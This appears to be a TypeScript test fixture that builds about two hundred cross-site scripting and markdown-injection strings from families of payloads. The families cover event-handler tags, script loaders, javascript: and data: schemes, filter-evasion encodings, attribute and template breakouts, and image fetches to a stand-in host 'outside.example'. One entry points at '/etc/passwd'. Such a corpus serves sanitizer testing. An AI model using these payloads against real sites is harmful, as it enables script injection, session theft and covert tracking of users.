/**
 * Two hundred texts that would run a script or fetch something if any part of the app took them for more than text. Made
 * from families, so that each way in is met in each form; what is to run is the same everywhere: it calls `hit`, or asks
 * `outside` for something.
 */
export const outside = 'https://outside.example';

const run = 'globalThis.hit()';

/** Elements that run something by themselves, each with the events that do. */
const handlers: readonly string[] = [
  ...[
    'img src=x',
    'video src=x',
    'audio src=x',
    'input type=image src=x',
    'object data=x',
    'embed src=x',
  ].map((tag) => `<${tag} onerror="${run}">`),
  ...['body', 'svg', 'iframe', 'math', 'style', 'frameset'].map((tag) => `<${tag} onload="${run}">`),
  ...['input', 'select', 'textarea', 'button', 'a href=#', 'div tabindex=0'].map(
    (tag) => `<${tag} autofocus onfocus="${run}">x`,
  ),
  ...['div', 'p', 'b', 'marquee', 'xss', 'table'].map((tag) => `<${tag} onmouseover=${run}>x</${tag}>`),
  ...['animate', 'set', 'animateTransform', 'animateMotion'].map(
    (tag) => `<svg><${tag} onbegin="${run}" attributeName=x dur=1s></svg>`,
  ),
  ...['details open', 'dialog open', 'video autoplay', 'audio autoplay'].flatMap((tag) => [
    `<${tag} ontoggle="${run}">`,
    `<${tag} onloadstart="${run}">`,
  ]),
];

/** Events that come without anybody's doing. */
const events: readonly string[] = [
  `<video><source onerror="${run}"></video>`,
  `<div style="animation:x 1s" onanimationend="${run}">x</div>`,
  `<div style="transition:all 1s" ontransitionend="${run}">x</div>`,
  `<body onpageshow="${run}" onhashchange="${run}">`,
  `<div onpointerenter="${run}" style="position:fixed;inset:0">x</div>`,
  `<div contenteditable oninput="${run}" onbeforeinput="${run}">x</div>`,
  `<button popovertarget=x>x</button><div popover id=x onbeforetoggle="${run}">x</div>`,
  `<input oncut="${run}" onpaste="${run}" onselect="${run}" value=x autofocus>`,
];

/** Scripts, and what loads one. */
const scripts: readonly string[] = [
  `<script>${run}</script>`,
  `<SCRIPT SRC=${outside}/a.js></SCRIPT>`,
  `<script type=module>import '${outside}/b.js'</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script/x>${run}</script >`,
  `<script\n>${run}</script>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script href="${outside}/c.js"/></svg>`,
  `<math><mtext><script>${run}</script></mtext></math>`,
  `<noscript><p title="</noscript><script>${run}</script>">`,
  `<template><script>${run}</script></template>`,
  `<style><img src="</style><img src=x onerror=${run}>">`,
  `<title><img src="</title><img src=x onerror=${run}>">`,
  `<textarea></textarea><script>${run}</script>`,
  `<!--><script>${run}</script>-->`,
  `<![CDATA[<script>${run}</script>]]>`,
  `<iframe srcdoc="<script>parent.hit()</script>"></iframe>`,
  `<iframe src="javascript:parent.hit()"></iframe>`,
  `<object data="data:text/html,<script>parent.hit()</script>"></object>`,
  `<embed src="data:image/svg+xml,<svg onload='${run}' xmlns='http://www.w3.org/2000/svg'/>">`,
  `<base href="${outside}/"><img src=d>`,
  `<meta http-equiv=refresh content="0;url=${outside}/e">`,
  `<link rel=stylesheet href="${outside}/f.css">`,
  `<link rel=preload as=image href="${outside}/g.png">`,
  `<style>@import '${outside}/h.css';</style>`,
  `<p style="background:url(${outside}/i.png)">x</p>`,
  `<form action="${outside}/j"><input autofocus onfocus=this.form.submit()></form>`,
  `<isindex action="javascript:${run}" type=image>`,
  `<img srcset="${outside}/k.png 1x">`,
  `<picture><source srcset="${outside}/l.png"><img></picture>`,
  `<video poster="${outside}/m.png"></video>`,
  `<svg><image href="${outside}/n.png"/></svg>`,
  `<svg><use href="${outside}/o.svg#x"/></svg>`,
  `<a ping="${outside}/p" href="#">x</a>`,
];

/** Addresses that are no address. */
const schemes: readonly string[] = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java\tscript:${run}`,
  `java&#10;script:${run}`,
  `&#106;avascript:${run}`,
  `\u0001javascript:${run}`,
  `javascript&colon;${run}`,
  `javascript://%0a${run}`,
  `vbscript:${run}`,
  `livescript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${run}>`,
  `blob:${outside}/q`,
  `file:///etc/passwd`,
  `filesystem:${outside}/r`,
  `http://outside.example/s`,
  `//outside.example/t`,
  `/\\outside.example/u`,
  `https://good.example@outside.example/v`,
  `feed:javascript:${run}`,
  `view-source:javascript:${run}`,
];
const links: readonly string[] = schemes.flatMap((address) => [
  `[press me](${address})`,
  `[press me](<${address}> "a title")`,
  `[press me][ref]\n\n[ref]: ${address}`,
]);

/** Pictures, which nothing may fetch, and half-open marks that something might close. */
const markdown: readonly string[] = [
  `![a picture](${outside}/1.png)`,
  `![a picture](<${outside}/2.png> "t")`,
  `![a picture][p]\n\n[p]: ${outside}/3.png`,
  `[![a picture](${outside}/4.png)](${outside}/5)`,
  `![x](javascript:${run})`,
  `![x](data:image/svg+xml,<svg onload=${run}>)`,
  `![" onerror="${run}](${outside}/6.png)`,
  `![x](${outside}/7.png" onerror="${run})`,
  `[x](https://a.example" onmouseover="${run})`,
  `[x](https://a.example 'y' onmouseover=${run})`,
  `<javascript:${run}>`,
  `<${outside}/8>`,
  `**<img src=x onerror=${run}>**`,
  `*<svg onload=${run}>*`,
  `# <script>${run}</script>`,
  `> <img src=x onerror=${run}>`,
  `- <iframe src=javascript:${run}>`,
  `\`<img src=x onerror=${run}>\``,
  `\`\`\`html\n<script>${run}</script>\n\`\`\``,
  `~~~\n</code></pre><script>${run}</script>`,
  `[x](javascript:${run}`,
  `![x](${outside}/9.png`,
  `**[x](${outside}/10**`,
  `*a <img src=x onerror=${run}`,
  `\`a <script>${run}</script>`,
  `|a|b|\n|-|-|\n|<img src=x onerror=${run}>|![x](${outside}/11.png)|`,
  `[^1]\n\n[^1]: <img src=x onerror=${run}>`,
  `&lt;script&gt;${run}&lt;/script&gt; **b**`,
  `\\<script>${run}\\</script> *i*`,
  `<!-- *a* --><script>${run}</script>`,
];

/** What closes an attribute, a tag, a string or a template before it begins. */
const breakouts: readonly string[] = [
  `"><img src=x onerror=${run}>`,
  `'><img src=x onerror=${run}>`,
  `\`><img src=x onerror=${run}>`,
  `" autofocus onfocus="${run}" x="`,
  `' onmouseover='${run}' x='`,
  `</textarea><img src=x onerror=${run}>`,
  `</title><script>${run}</script>`,
  `</script><script>${run}</script>`,
  `</style><script>${run}</script>`,
  `]]><script>${run}</script>`,
  `--><script>${run}</script>`,
  `';${run};//`,
  `";${run};//`,
  `\${${run}}`,
  `{{constructor.constructor('${run}')()}}`,
  `{{${run}}}`,
  `<%= ${run} %>`,
  `#{${run}}`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `＜script＞${run}＜/script＞`,
  `<\u200Bscript>${run}</script>`,
  `\u202E<script>${run}</script>`,
  `<a href="x" style="animation-name:x" onanimationstart="${run}">x</a>`,
  `[[f1]]<img src=x onerror=${run}>`,
  `__proto__<img src=x onerror=${run}>`,
  `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${run}>"}}`,
  `<x is="script">${run}</x>`,
];

export const xssVectors: readonly string[] = [
  ...handlers,
  ...events,
  ...scripts,
  ...links,
  ...markdown,
  ...breakouts,
];
